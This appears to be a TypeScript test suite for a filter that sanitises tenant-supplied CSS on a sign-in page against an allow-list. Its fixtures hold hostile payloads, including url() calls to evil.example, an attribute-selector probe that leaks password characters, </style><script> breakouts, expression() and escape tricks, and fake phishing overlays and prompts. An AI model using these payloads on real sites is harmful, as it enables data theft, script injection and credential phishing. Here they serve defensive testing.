import fc from 'fast-check';
import { parse, walk } from 'css-tree';
import { filterCustomCss } from './custom-css.js';

/** Text that would let the CSS out of the sign-in page's <style> element or open a comment. */
const FORBIDDEN_OUTPUT = ['<', '</style', '<!--', '-->', '\\'];

/** Properties that must never come out: overlays, injected text, resources, script. */
const NEVER_KEPT_PROPERTIES = new Set([
  'position',
  'top',
  'left',
  'right',
  'bottom',
  'inset',
  'z-index',
  'transform',
  'content',
  'behavior',
  '-moz-binding',
  'filter',
  'mask',
  'clip-path',
  'border-image',
  'list-style',
  'list-style-image',
]);

/** Functions that fetch, read or run something, or hide a value from the filter. */
const NEVER_KEPT_FUNCTIONS = new Set([
  'url',
  'src',
  'image',
  'image-set',
  '-webkit-image-set',
  'element',
  'cross-fade',
  'attr',
  'env',
  'var',
  'expression',
]);

/**
 * Hostile and harmless pieces for the property tests; the random joins below also cut rules in
 * half, which is the broken CSS an attacker would try on a tolerant parser.
 */
const FRAGMENTS = [
  'a{color:red}',
  '.login-button{background-color:#0a66c2;color:white;border-radius:4px}',
  '@media (max-width:600px){.card{padding:8px}}',
  'h1{font-family:"Open Sans",sans-serif}',
  '.x:hover{box-shadow:0 0 0 1px rgba(0,0,0,.2)}',
  'body{background:linear-gradient(90deg,#fff,#000)}',
  'a{background:url(http://evil.example/x)}',
  'a{background:u\\rl(x)}',
  'a{background:\\75 rl(x)}',
  'a{background:ur/**/l(x)}',
  '@import url(http://evil.example/x.css);',
  '@import "x.css";',
  'a{width:expression(alert(1))}',
  'a{behavior:url(x.htc)}',
  'a{-moz-binding:url(x.xml#y)}',
  'a{background:javascript:alert(1)}',
  '</style><script>alert(1)</script>',
  '<!--',
  '-->',
  '.a\\:b{color:red}',
  'a{co\\6cor:red}',
  'a{background:image-set("x.png" 1x)}',
  '@font-face{font-family:x;src:url(x.woff)}',
  '@namespace svg url(http://www.w3.org/2000/svg);',
  '@charset "utf-8";',
  'a{--x:url(x);background:var(--x)}',
  'a{width:attr(data-w px)}',
  'a{background:url(data:text/html,<script>alert(1)</script>)}',
  '.overlay{position:fixed;z-index:9999;top:0;left:0}',
  'a::before{content:"Enter your password"}',
  'input[value^="a"]{background:url(http://evil.example/a)}',
  '.a-- > .b{color:red}',
  'a{font-family:"\\3c/style\\3e"}',
  '@media screen{@import url(x);a{background:url(x)}b{color:red}}',
  '@supports (display:grid){a{color:red}}',
  'a{color:red!important}',
  '{',
  '}',
  ';',
  '"',
  "'",
  '(',
  ')',
  '/*',
  '*/',
  '\\',
  ' ',
  'url(',
  '@media',
  ':not(',
];

const CSS_ALPHABET = [
  ...'{}();:,.#<>/\\*!@"\'-+~[]=|&%_ \n\tabcdeflmoprstuxz0123456789',
  'url(',
  '@media ',
  '@import ',
  'color',
  ':hover',
  'px',
];

function forbiddenIn(css: string): string[] {
  return FORBIDDEN_OUTPUT.filter((forbidden) => css.includes(forbidden));
}

/** Every property and function name in the filtered text, read back with the same parser. */
function propertiesAndFunctions(css: string): { properties: string[]; functions: string[]; urls: number } {
  const properties: string[] = [];
  const functions: string[] = [];
  let urls = 0;
  walk(parse(css), (node) => {
    if (node.type === 'Declaration') properties.push(node.property.toLowerCase());
    if (node.type === 'Function') functions.push(node.name.toLowerCase());
    if (node.type === 'Url') urls += 1;
  });
  return { properties, functions, urls };
}

describe('spec 2 sign-in details: custom CSS is filtered against an allow-list', () => {
  describe('harmless branding survives with its meaning intact', () => {
    it('keeps a button rule with its three declarations', () => {
      expect(
        filterCustomCss('.login-button { background-color: #0a66c2; color: white; border-radius: 4px }'),
      ).toBe('.login-button{background-color:#0a66c2;color:white;border-radius:4px}');
    });

    it.each<[string, string, string]>([
      [
        'colour and gradient backgrounds',
        'body { background: linear-gradient(135deg, #0a66c2 0%, rgba(0, 0, 0, .5) 100%); color: hsl(210 20% 20%) }',
        'body{background:linear-gradient(135deg,#0a66c2 0%,rgba(0,0,0,.5) 100%);color:hsl(210 20% 20%)}',
      ],
      [
        'font families, generic and named, with text properties',
        'h1 { font-family: "Open Sans", Arial, sans-serif; font-weight: 600; font-size: 1.5rem; line-height: 1.2; text-transform: uppercase; letter-spacing: .05em }',
        'h1{font-family:"Open Sans",Arial,sans-serif;font-weight:600;font-size:1.5rem;line-height:1.2;text-transform:uppercase;letter-spacing:.05em}',
      ],
      [
        'common pseudo-classes in a selector list',
        '.btn:hover, .btn:focus-visible, a:visited { background-color: #084e96; outline: 2px solid #fff }',
        '.btn:hover,.btn:focus-visible,a:visited{background-color:#084e96;outline:2px solid #fff}',
      ],
      [
        ':not() of simple selectors',
        '.field:not(.error, :disabled) { border: 1px solid #ccc }',
        '.field:not(.error,:disabled){border:1px solid #ccc}',
      ],
      [
        'combinators, ids, element names and the universal selector',
        '#signin > form .row + .row ~ p, * { margin: 0 auto; padding: 4px 8px }',
        '#signin>form .row+.row~p,*{margin:0 auto;padding:4px 8px}',
      ],
      [
        'flex layout and gaps',
        '.container { display: flex; flex-direction: column; gap: 1rem; align-items: center; justify-content: center }',
        '.container{display:flex;flex-direction:column;gap:1rem;align-items:center;justify-content:center}',
      ],
      [
        'sizes with calc(), min() and shadows',
        '.card { max-width: min(100%, 32rem); padding: calc((1rem + 2px) / 2); box-shadow: 0 1px 3px rgba(0,0,0,.2), inset 0 0 0 1px #eee }',
        '.card{max-width:min(100%,32rem);padding:calc((1rem + 2px)/2);box-shadow:0 1px 3px rgba(0,0,0,.2),inset 0 0 0 1px #eee}',
      ],
      [
        'the ::placeholder pseudo-element',
        'input::placeholder { color: #888 }',
        'input::placeholder{color:#888}',
      ],
      ['cursor keywords', '.btn { cursor: pointer }', '.btn{cursor:pointer}'],
      [
        'a @media rule with its rules',
        '@media (max-width: 600px) { .card { padding: 8px } }',
        '@media (max-width:600px){.card{padding:8px}}',
      ],
      [
        'a @media rule with a media type and a preference',
        '@media screen and (prefers-color-scheme: dark) { body { background-color: #111; color: #eee } }',
        '@media screen and (prefers-color-scheme:dark){body{background-color:#111;color:#eee}}',
      ],
      [
        'a @media rule with a range written with >=',
        '@media (width >= 400px) and (700px >= width) { .a { opacity: .9 } }',
        '@media (width>=400px) and (700px>=width){.a{opacity:.9}}',
      ],
      [
        '@media nested in @media',
        '@media screen { @media (min-width: 900px) { .wide { width: 50% } } }',
        '@media screen{@media (min-width:900px){.wide{width:50%}}}',
      ],
      [
        'property names in any case, lower-cased',
        'A { COLOR: RED; Background-Color: #FFF }',
        'A{color:RED;background-color:#FFF}',
      ],
      ['CSS-wide keywords', 'a { color: inherit; margin: unset }', 'a{color:inherit;margin:unset}'],
      ['comments between harmless tokens', '/* brand */ a { /* x */ color: red /* y */ }', 'a{color:red}'],
    ])('keeps %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });
  });

  describe('url() is never kept, in any spelling', () => {
    it.each<[string, string, string]>([
      ['lower case', 'a { background: url(http://evil.example/x.png) }', ''],
      ['upper case', 'a { background: URL(http://evil.example/x.png) }', ''],
      ['mixed case with a quoted address', 'a { background-image: Url( "http://evil.example/x" ) }', ''],
      ['an escaped letter, u\\rl(', 'a { background: u\\rl(http://evil.example/x) }', ''],
      ['a hex escape, \\75 rl(', 'a { background: \\75 rl(http://evil.example/x) }', ''],
      ['a six-digit hex escape', 'a { background: \\000075rl(http://evil.example/x) }', ''],
      ['a comment inside the name, ur/**/l(', 'a { background: ur/**/l(http://evil.example/x) }', ''],
      ['a data: URI', 'a { background: url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) }', ''],
      ['a javascript: address', "a { background-image: url('javascript:alert(1)') }", ''],
      ['src()', 'a { background-image: src("http://evil.example/x") }', ''],
      ['next to a colour in the shorthand', 'a { background: #fff url(x.png) no-repeat }', ''],
      ['in a cursor', 'a { cursor: url(http://evil.example/c.cur), auto }', ''],
      [
        'in a rule that also holds a safe declaration',
        'a { color: red; background: url(x) }',
        'a{color:red}',
      ],
      [
        'as an attribute-selector exfiltration probe',
        'input[value^="a"] { background: url(http://evil.example/?a) }',
        '',
      ],
      ['in a media query', '@media url(x) { a { color: red } }', ''],
      ['escaped in a media query', '@media (min-width: u\\rl(x)) { a { color: red } }', ''],
    ])('drops %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });
  });

  describe('at-rules other than @media are dropped', () => {
    it.each<[string, string, string]>([
      ['@import url()', '@import url(http://evil.example/x.css); a { color: red }', 'a{color:red}'],
      ['@import with a string', '@import "http://evil.example/x.css";', ''],
      ['@import in upper case with a media list', "@IMPORT 'x.css' screen;", ''],
      ['@import with layer() and supports()', '@import url(x) layer(base) supports(display: grid);', ''],
      ['@import with an escaped name', '@\\69mport url(x); b { color: red }', 'b{color:red}'],
      ['@font-face', '@font-face { font-family: x; src: url(http://evil.example/f.woff) }', ''],
      ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg);', ''],
      ['@charset', '@charset "utf-8"; a { color: red }', 'a{color:red}'],
      ['@supports', '@supports (display: grid) { a { color: red } }', ''],
      ['@keyframes', '@keyframes spin { from { color: red } to { color: blue } }', ''],
      ['@page', '@page { margin: 0 }', ''],
      ['@layer', '@layer brand { a { color: red } }', ''],
      ['@-moz-document', '@-moz-document url-prefix() { a { color: red } }', ''],
      ['@media without a query', '@media { a { color: red } }', ''],
      [
        '@media with an unknown feature',
        '@media (-webkit-min-device-pixel-ratio: 2) { a { color: red } }',
        '',
      ],
      [
        '@media with a range written with <=, which would print a <',
        '@media (400px <= width) { a { color: red } }',
        '',
      ],
      ['@media with calc() in a feature', '@media (min-width: calc(1px + 2px)) { a { color: red } }', ''],
      [
        'hostile content nested in @media, keeping the safe rule',
        '@media screen { @import url(x); a { background: url(x) } b { color: red } @font-face { src: url(x) } }',
        '@media screen{b{color:red}}',
      ],
      [
        '@media nested deeper than three levels',
        '@media screen { @media screen { @media screen { @media screen { a { color: red } } b { color: blue } } } }',
        '@media screen{@media screen{@media screen{b{color:blue}}}}',
      ],
      ['declarations directly in @media', '@media screen { color: red }', ''],
    ])('drops %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });
  });

  describe('functions outside colours, gradients and arithmetic are dropped', () => {
    it.each<[string, string, string]>([
      ['expression()', 'a { width: expression(alert(1)) }', ''],
      ['EXPRESSION() in upper case', 'a { width: EXPRESSION(alert(1)) }', ''],
      ['expression() split by a comment', 'a { width: expr/**/ession(alert(1)) }', ''],
      ['image-set()', 'a { background-image: image-set("x.png" 1x, "y.png" 2x) }', ''],
      ['-webkit-image-set()', 'a { background-image: -webkit-image-set("x.png" 1x) }', ''],
      ['image()', 'a { background-image: image("x.png") }', ''],
      ['element()', 'a { background: element(#password) }', ''],
      ['cross-fade()', 'a { background-image: cross-fade(url(a.png), url(b.png), 50%) }', ''],
      ['attr()', 'a { width: attr(data-width px) }', ''],
      ['env()', 'a { padding: env(safe-area-inset-top) }', ''],
      ['var()', 'a { color: var(--brand) }', ''],
      ['a gradient with url() inside', 'a { background: linear-gradient(red, url(x)) }', ''],
      ['a vendor-prefixed gradient', 'a { background: -webkit-linear-gradient(red, blue) }', ''],
      ['javascript: in a value', 'a { background: javascript:alert(1) }', ''],
      ['javascript: in a colour', 'a { color: javascript:alert(1); margin: 0 }', 'a{margin:0}'],
    ])('drops %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });
  });

  describe('properties outside the allow-list are dropped', () => {
    it.each<[string, string, string]>([
      ['behavior', 'a { behavior: url(x.htc); color: red }', 'a{color:red}'],
      ['-moz-binding', 'a { -moz-binding: url(http://evil.example/x.xml#xss) }', ''],
      ['a custom property carrying url()', 'a { --bg: url(http://evil.example/x) }', ''],
      ['a custom property used through var()', 'a { --c: red; color: var(--c) }', ''],
      [
        'a position: fixed overlay, keeping its harmless declarations',
        '.overlay { position: fixed; top: 0; left: 0; right: 0; bottom: 0; z-index: 2147483647; background: #fff; width: 100vw; height: 100vh }',
        '.overlay{background:#fff;width:100vw;height:100vh}',
      ],
      ['position: absolute and inset', '.fake { position: absolute; inset: 0 }', ''],
      ['transform', '.form { transform: translateY(-200px) }', ''],
      ['content: injection with a string', '.login-form::before { content: "Enter your bank PIN" }', ''],
      ['content: with url()', 'h1::after { content: url(http://evil.example/x) }', ''],
      ['content: with attr()', 'input::after { content: attr(value) }', ''],
      ['filter, mask and clip-path', 'a { filter: url(#f); mask: url(m.svg); clip-path: url(#c) }', ''],
      ['border-image', 'a { border-image: url(b.png) 30 round }', ''],
      ['list-style images', 'li { list-style: url(x.png) }', ''],
      ['an IE star hack', 'a { *color: red }', ''],
      ['a vendor-prefixed property', 'a { -webkit-box-shadow: 0 0 1px red }', ''],
      ['an !ie hack flag', 'a { color: red !ie }', ''],
      ['a value the property does not accept', 'a { color: 12px; width: red }', ''],
      ['strings outside font families', '.a { font-size: "12px"; color: "red" }', ''],
    ])('drops %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });

    it('removes !important but keeps the declaration, so the login page can protect its elements', () => {
      expect(filterCustomCss('a { color: red !important; margin: 0 ! important }')).toBe(
        'a{color:red;margin:0}',
      );
    });
  });

  describe('selectors outside the allow-list are dropped', () => {
    it.each<[string, string, string]>([
      ['attribute selectors', 'input[type=password] { color: red }', ''],
      [
        'an attribute selector in a list, keeping the rest',
        '.ok, input[type=password] { color: red }',
        '.ok{color:red}',
      ],
      ['namespaces', 'svg|a { color: red }', ''],
      [':has()', 'form:has(input) { color: red }', ''],
      [':is() and :where()', ':is(.a) { color: red } :where(.b) { color: red }', ''],
      [':nth-child()', 'li:nth-child(2) { color: red }', ''],
      [':not() with a combinator', '.a:not(.b .c) { color: red }', ''],
      ['nested :not()', '.a:not(:not(.b)) { color: red }', ''],
      ['::before and ::after', 'a::before { color: red } a:after { color: red }', ''],
      ['a pseudo-element that is not last', 'input::placeholder:hover { color: red }', ''],
      ['the nesting selector', '& .a { color: red }', ''],
      ['a leading combinator', '> .a { color: red }', ''],
      [
        'nested style rules, keeping the outer declarations',
        '.a { color: red; .b { background: url(x) } }',
        '.a{color:red}',
      ],
      ['a selector that would print as -->', '.a-- > .b { color: red } .c { color: blue }', '.c{color:blue}'],
    ])('drops %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });
  });

  describe('anything written with a backslash escape is dropped', () => {
    it.each<[string, string, string]>([
      ['an escaped class name', '.a\\:b { color: red }', ''],
      ['a unicode escape in an element name', 'd\\69 v { color: red }', ''],
      [
        'a unicode escape in a class name, keeping other selectors',
        '.\\61 , .b { color: red }',
        '.b{color:red}',
      ],
      ['a unicode escape in a property name', 'a { co\\6cor: red; margin: 0 }', 'a{margin:0}'],
      ['an escaped behavior property', 'a { \\62 ehavior: url(x.htc) }', ''],
      ['an escape in a keyword', 'a { color: r\\65 d }', ''],
      ['a backslash in a comment inside a declaration', 'a { color: /* \\ */ red }', ''],
      ['an escaped font family that decodes to </style>', 'a { font-family: "\\3c/style\\3e" }', ''],
      ['an escaped newline in a string', 'a { font-family: "a\\\nb" }', ''],
      ['a lone backslash', '\\', ''],
    ])('drops %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });
  });

  describe('HTML-breaking text never reaches the output', () => {
    it.each<[string, string, string]>([
      ['</style><script> after a rule', 'a { color: red } </style><script>alert(1)</script>', 'a{color:red}'],
      ['</style><script> alone', '</style><script>alert(1)</script>', ''],
      ['</style> inside a rule', 'a { color: red; </style><script>alert(1)</script> }', 'a{color:red}'],
      ['</style> in a font family string', 'a { font-family: "</style><script>alert(1)</script>" }', ''],
      ['<!-- and --> around a rule', '<!-- a { color: red } -->', 'a{color:red}'],
      ['< in a selector', 'a<b { color: red }', ''],
      ['a data: URI carrying markup', 'a { background: url(data:text/html,<script>alert(1)</script>) }', ''],
    ])('drops %s', (_name, input, expected) => {
      const output = filterCustomCss(input);
      expect(output).toBe(expected);
      expect(forbiddenIn(output)).toEqual([]);
    });
  });

  describe('broken CSS is read tolerantly and only complete, safe parts survive', () => {
    it.each<[string, string, string]>([
      ['an unterminated rule', 'a { color: red', 'a{color:red}'],
      ['an unterminated declaration', 'a { color:', ''],
      [
        'a string left open at the end, which CSS closes there',
        'a { font-family: "Unterminated',
        'a{font-family:"Unterminated"}',
      ],
      [
        'a string broken by a newline, which drops only its own declaration',
        'a { font-family: "broken\n; color: red }',
        'a{color:red}',
      ],
      ['an unterminated url(', 'a { background: url(http://evil.example/x', ''],
      ['an unterminated comment', 'a { color: red } /* b { color: blue }', 'a{color:red}'],
      ['stray closing braces', 'a { color: red; } } } b { color: blue }', 'a{color:red}'],
      ['a rule without a selector', '{ color: red }', ''],
      ['a declaration without a value', 'a { color: ; margin: 0 }', 'a{margin:0}'],
      ['a declaration without a colon', 'a { color red; margin: 0 }', 'a{margin:0}'],
      ['an unterminated @media', '@media screen { a { color: red }', '@media screen{a{color:red}}'],
    ])('reads %s', (_name, input, expected) => {
      expect(filterCustomCss(input)).toBe(expected);
    });
  });

  describe('empty, blank or wholly unsafe input gives the empty string', () => {
    it.each(['', '   ', '\n\t  \n', '/* only a comment */', '@import url(x);', 'a { position: fixed }'])(
      'gives "" for %j',
      (input) => {
        expect(filterCustomCss(input)).toBe('');
      },
    );
  });

  describe('large and deeply nested input', () => {
    it('drops a very long value that holds url(), and keeps the rest', () => {
      const css = `a { color: red; background: url(data:image/png;base64,${'A'.repeat(90_000)}) }`;
      expect(filterCustomCss(css)).toBe('a{color:red}');
    });

    it('drops a very long value the property does not accept', () => {
      expect(filterCustomCss(`a { margin: ${'1px '.repeat(20_000)}; color: red }`)).toBe('a{color:red}');
    });

    it('filters 100 000 characters of mixed input in well under a few seconds', () => {
      const css = FRAGMENTS.join('\n')
        .repeat(Math.ceil(100_000 / FRAGMENTS.join('\n').length))
        .slice(0, 100_000);
      const started = Date.now();
      const output = filterCustomCss(css);
      expect(Date.now() - started).toBeLessThan(5_000);
      expect(forbiddenIn(output)).toEqual([]);
      expect(filterCustomCss(output)).toBe(output);
    });

    it.each<[string, string]>([
      ['@media blocks', '@media screen {'.repeat(20_000) + 'a { color: red }'],
      [':not(', 'a' + ':not('.repeat(20_000) + 'b' + ')'.repeat(20_000) + ' { color: red }'],
      ['calc(', `a { width: ${'calc('.repeat(20_000)}1px${')'.repeat(20_000)} }`],
      ['[ and (', 'a { color: red } ' + '[('.repeat(20_000)],
      ['( hidden behind stray ] closers', 'a { color: red } b { width: ' + 'calc(]'.repeat(20_000) + ' }'],
    ])('gives "" for brackets nested thousands deep (%s), which would overflow the parser', (_name, css) => {
      expect(filterCustomCss(css)).toBe('');
    });

    it('still reads the shallow nesting a stylesheet needs', () => {
      expect(
        filterCustomCss(`a { width: ${'calc('.repeat(5)}1px${')'.repeat(5)} } ${'{}'.repeat(10_000)}`),
      ).toBe('a{width:calc(calc(calc(calc(calc(1px)))))}');
    });

    it('finishes on stray closers after a longer stylesheet (css-tree reuses its token buffer)', () => {
      filterCustomCss(`a { color: red } ${'{}'.repeat(1_000)}`);
      // Which stale token the shorter input meets depends on its length, so try a few lengths.
      for (const padding of ['', ' ', '  ', '   ']) {
        expect(filterCustomCss(`(;)}a{color:red}}b{color:blue} c{color:green}${padding}`)).toBe(
          'c{color:green}',
        );
      }
    });

    it('drops functions nested deeper than the limit', () => {
      expect(filterCustomCss(`a { width: ${'calc('.repeat(20)}1px${')'.repeat(20)}; color: red }`)).toBe(
        'a{color:red}',
      );
    });
  });

  describe('properties over arbitrary input', () => {
    const randomCss = fc.string({ unit: fc.constantFrom(...CSS_ALPHABET), maxLength: 200 });
    const fragmentCss = fc
      .array(fc.tuple(fc.constantFrom(...FRAGMENTS), fc.constantFrom('', ' ', '\n', ';', '}')), {
        maxLength: 12,
      })
      .map((parts) => parts.map(([fragment, separator]) => fragment + separator).join(''));
    const anyCss = fc.oneof(fc.string({ maxLength: 200 }), randomCss, fragmentCss);

    it('is idempotent: filtering filtered CSS changes nothing', () => {
      fc.assert(
        fc.property(anyCss, (css) => {
          const once = filterCustomCss(css);
          expect(filterCustomCss(once)).toBe(once);
        }),
        { numRuns: 2_000 },
      );
    });

    it('never outputs <, </style, <!--, --> or a backslash', () => {
      fc.assert(
        fc.property(anyCss, (css) => {
          expect(forbiddenIn(filterCustomCss(css))).toEqual([]);
        }),
        { numRuns: 2_000 },
      );
    });

    it('never outputs url(), a disallowed function, a custom property or an overlay property', () => {
      fc.assert(
        fc.property(fragmentCss, (css) => {
          const { properties, functions, urls } = propertiesAndFunctions(filterCustomCss(css));
          expect(urls).toBe(0);
          expect(functions.filter((name) => NEVER_KEPT_FUNCTIONS.has(name))).toEqual([]);
          expect(
            properties.filter((name) => NEVER_KEPT_PROPERTIES.has(name) || name.startsWith('-')),
          ).toEqual([]);
        }),
        { numRuns: 1_000 },
      );
    });

    it('keeps a harmless rule whatever complete hostile rules surround it', () => {
      const hostileRules = [
        'a{background:url(x)}',
        '@import url(x);',
        '@font-face{src:url(x)}',
        '.o{position:fixed;z-index:9}',
        'a::before{content:"x"}',
        '.a\\:b{color:red}',
        '@supports (display:grid){a{color:red}}',
      ];
      fc.assert(
        fc.property(
          fc.array(fc.constantFrom(...hostileRules), { maxLength: 5 }),
          fc.array(fc.constantFrom(...hostileRules), { maxLength: 5 }),
          (before, after) => {
            const css = [...before, '.login-button{color:white}', ...after].join('\n');
            expect(filterCustomCss(css)).toBe('.login-button{color:white}');
          },
        ),
      );
    });
  });
});
